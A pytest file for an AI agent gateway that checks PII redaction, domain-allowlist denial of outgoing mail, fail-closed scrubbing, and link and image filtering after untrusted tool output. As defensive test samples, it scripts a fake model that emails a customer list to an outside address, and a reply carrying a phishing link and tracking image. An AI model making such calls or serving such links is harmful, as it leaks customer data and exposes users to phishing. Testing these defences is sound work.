"""Tools get the model's real arguments; everything the client sees is PII-scrubbed.

Real gateway with the "pii" guard on: the outbox gets the real address (the policy's domain
allowlist governs where mail may go), while SSE events, the run state, approvals and the
audit show it redacted. A failing scrubber stops the run instead of showing raw text.
"""

from __future__ import annotations

import json

import pytest

from tests.agent.agent_support import DEV, agent_config, call, fake, of, run, types

PII = {"pii": {"enabled": True, "keys": {"other": {"enabled": False}}}}
BOB = "bob@example.com"
ADA = "ada.lovelace@example.org"
INVOICE = "/srv/data/vendor_invoice.txt"


@pytest.fixture
def pgw(gateway_factory, tmp_path):
    return gateway_factory(agent_config(tmp_path, extra_guards=PII))


def _state(gw, run_id: str, key: str = DEV) -> dict:
    r = gw.http.get(f"/v1/agent/runs/{run_id}", headers={"authorization": f"Bearer {key}"})
    assert r.status_code == 200, r.text
    return r.json()


def _send_script() -> dict:
    return fake(
        {
            "tool_calls": [
                call(
                    "send_email",
                    "m1",
                    to=BOB,
                    subject="Invoice 2024-117",
                    body=f"Due in 30 days. Questions: {ADA}",
                )
            ]
        },
        # Small chunks: the address arrives split across deltas.
        {"reply": f"I emailed {BOB} the summary; {ADA} is in copy.", "chunk_chars": 3},
    )


def test_tool_gets_the_real_address_the_client_sees_it_redacted(pgw, tmp_path):
    events = run(
        pgw,
        DEV,
        {
            "task": "Email the invoice summary to Bob",
            "model": "demo",
            "model_params": _send_script(),
        },
    )
    assert types(events)[-1] == "run.completed"
    # The tool ran with the model's real arguments: the policy allowed example.com.
    sent = [json.loads(line) for line in (tmp_path / "outbox.jsonl").read_text().splitlines()]
    assert len(sent) == 1 and sent[0]["to"] == BOB and ADA in sent[0]["body"]
    decided = of(events, "tool.decided")[0]
    assert decided["decision"] == "allow" and decided["by"] == "policy"
    assert of(events, "tool.result")[0]["ok"] is True
    # Nothing the client received carries either address.
    requested = json.loads(of(events, "tool.requested")[0]["arguments"])
    assert requested["to"] == "<EMAIL_ADDRESS>"
    assert requested["body"] == "Due in 30 days. Questions: <EMAIL_ADDRESS>"
    text = "".join(e["text"] for e in of(events, "model.delta"))
    assert text == "I emailed <EMAIL_ADDRESS> the summary; <EMAIL_ADDRESS> is in copy."
    assert of(events, "run.completed")[0]["result"] == text
    everything = json.dumps(events)
    assert BOB not in everything and ADA not in everything
    # The run state the API returns is scrubbed the same way.
    state = _state(pgw, events[0]["run_id"])
    assert BOB not in json.dumps(state) and ADA not in json.dumps(state)
    assistant = [m for m in state["messages"] if m["role"] == "assistant"]
    assert (
        json.loads(assistant[0]["tool_calls"][0]["function"]["arguments"])["to"]
        == "<EMAIL_ADDRESS>"
    )
    assert state["result"] == text
    # The model call is audited with the redaction counts (types only), as on the proxy.
    agent_calls = [a for a in pgw.audit_lines() if a.get("route") == "agent"]
    redacts = [v for a in agent_calls for v in a["verdicts"] if v["guard"] == "pii"]
    assert sum(v["detail"]["counts"]["EMAIL_ADDRESS"] for v in redacts) == 4
    assert BOB not in json.dumps(pgw.audit_lines())


def test_a_key_override_that_turns_pii_off_sees_raw_text(pgw, tmp_path):
    events = run(
        pgw,
        "sk-other-agent",
        {"task": "Email Bob", "model": "demo", "model_params": _send_script()},
    )
    assert json.loads(of(events, "tool.requested")[0]["arguments"])["to"] == BOB
    assert BOB in "".join(e["text"] for e in of(events, "model.delta"))
    assert BOB in json.dumps(_state(pgw, events[0]["run_id"], "sk-other-agent")["messages"])


def test_exfiltration_is_denied_by_the_domain_rule_not_by_scrubbed_arguments(pgw, tmp_path):
    """The README scenario with the PII guard on (as in demo mode)."""
    target = "billing-archive@acme-payments.net"
    script = fake(
        {"tool_calls": [call("read_file", "c1", path=INVOICE)]},
        {"tool_calls": [call("sql_query", "c2", query="SELECT name, email FROM customers")]},
        {
            "tool_calls": [
                call(
                    "send_email",
                    "c3",
                    to=target,
                    subject="customers",
                    body="ada@example.com, grace@example.com",
                )
            ]
        },
        {"reply": "The invoice asks for 1,240 EUR within 30 days."},
    )
    events = run(
        pgw, DEV, {"task": "Summarise the vendor invoice", "model": "demo", "model_params": script}
    )
    decided = {e["tool_call_id"]: e for e in of(events, "tool.decided")}
    assert decided["c3"]["decision"] == "deny"
    assert decided["c3"]["rule"] == "args.email_domain_not_allowed"
    assert not (tmp_path / "outbox.jsonl").exists()
    requested = {e["tool_call_id"]: e for e in of(events, "tool.requested")}
    assert json.loads(requested["c3"]["arguments"])["to"] == "<EMAIL_ADDRESS>"
    # The customer list the model read is shown scrubbed, the model got it as is.
    sql = [e for e in of(events, "tool.result") if e["tool_call_id"] == "c2"][0]
    assert sql["ok"] is True and "<EMAIL_ADDRESS>" in sql["preview"]
    assert target not in json.dumps(events) + json.dumps(_state(pgw, events[0]["run_id"]))
    assert types(events)[-1] == "run.completed"


def test_approval_payload_is_scrubbed_and_the_approved_call_gets_the_real_address(pgw, tmp_path):
    script = fake(
        {"tool_calls": [call("read_file", "r1", path=INVOICE)]},
        {
            "tool_calls": [
                call("send_email", "e1", to=BOB, subject="Invoice", body="Due in 30 days.")
            ]
        },
        {"reply": "Done."},
    )
    events = run(
        pgw,
        DEV,
        {"task": "Forward the invoice to Bob", "model": "demo", "model_params": script},
        until="approval.required",
    )
    req = of(events, "approval.required")[0]
    assert req["arguments"]["to"] == "<EMAIL_ADDRESS>" and BOB not in json.dumps(events)
    run_id = events[0]["run_id"]
    pending = _state(pgw, run_id)["pending_approvals"]
    assert pending[0]["arguments"]["to"] == "<EMAIL_ADDRESS>"
    r = pgw.http.post(
        f"/v1/agent/runs/{run_id}/approvals",
        json={"tool_call_id": "e1", "decision": "approve"},
        headers={"authorization": f"Bearer {DEV}"},
    )
    assert r.status_code == 200 and BOB not in r.text
    rest = run(pgw, DEV, None, path=f"/v1/agent/runs/{run_id}/events?after={req['seq']}")
    assert types(rest)[-1] == "run.completed" and BOB not in json.dumps(rest)
    sent = json.loads((tmp_path / "outbox.jsonl").read_text())
    assert sent["to"] == BOB


def test_a_failing_scrubber_stops_the_run_instead_of_showing_raw_text(pgw, monkeypatch):
    from keepgate.scrubbing.scrubber import Scrubber

    def boom(self, text):
        raise RuntimeError("detector down")

    monkeypatch.setattr(Scrubber, "analyze", boom)
    events = run(
        pgw,
        DEV,
        {
            "task": "Who is Bob?",
            "model": "demo",
            "model_params": fake({"reply": f"Bob is {BOB}, reachable any time at that address."}),
        },
    )
    failed = of(events, "run.failed")[0]
    assert failed["reason"] == "pii_blocked"
    assert failed["detail"]["code"] == "pii_scrubber_unavailable"
    assert BOB not in json.dumps(events)
    r = pgw.http.get(
        f"/v1/agent/runs/{events[0]['run_id']}", headers={"authorization": f"Bearer {DEV}"}
    )
    assert r.status_code == 503 and r.json()["error"]["code"] == "pii_scrubber_unavailable"
    audit = [a for a in pgw.audit_lines() if a.get("route") == "agent"][-1]
    assert any(v["guard"] == "pii" and v["decision"] == "error" for v in audit["verdicts"])
    assert BOB not in json.dumps(pgw.audit_lines()) + pgw.log_text()


def test_links_and_images_in_a_tainted_run_are_filtered_as_on_the_proxy(pgw, tmp_path):
    """After a tool result (untrusted output), the model's text reaches the client through
    the same answer filters as a proxied answer: an image is removed and a link the
    conversation does not vouch for is defanged, in model.delta, the result and the run
    state; the agent's model call is audited with the hosts."""
    evil = "verify-account.help"
    reply = (
        f"Paid. Re-verify at [the portal](https://{evil}/signin) "
        f"![s](https://{evil}/p.png) or https://example.org/ok"
    )
    script = fake(
        {"tool_calls": [call("read_file", "r1", path=INVOICE)]},
        {"reply": reply, "chunk_chars": 3},
    )
    events = run(
        pgw,
        DEV,
        {"task": "Summarise the invoice on example.org", "model": "demo", "model_params": script},
    )
    assert types(events)[-1] == "run.completed"
    text = "".join(e["text"] for e in of(events, "model.delta"))
    assert text == (
        "Paid. Re-verify at [the portal](hxxps://verify-account[.]help/signin) "
        "[image removed: verify-account.help] or https://example.org/ok"
    )
    assert of(events, "run.completed")[0]["result"] == text
    state = _state(pgw, events[0]["run_id"])
    assert f"//{evil}" not in json.dumps(state) and state["result"] == text
    assert [m for m in state["messages"] if m["role"] == "assistant"][-1]["content"] == text
    agent_calls = [a for a in pgw.audit_lines() if a.get("route") == "agent"]
    assert any(a.get("links_neutralised") == [evil] for a in agent_calls)
    assert any(a.get("images_removed") == [evil] for a in agent_calls)


def test_an_untainted_run_shows_links_as_written(pgw, tmp_path):
    reply = "See [the portal](https://verify-account.help/login)."
    events = run(pgw, DEV, {"task": "Hi", "model": "demo", "model_params": fake({"reply": reply})})
    assert "".join(e["text"] for e in of(events, "model.delta")) == reply
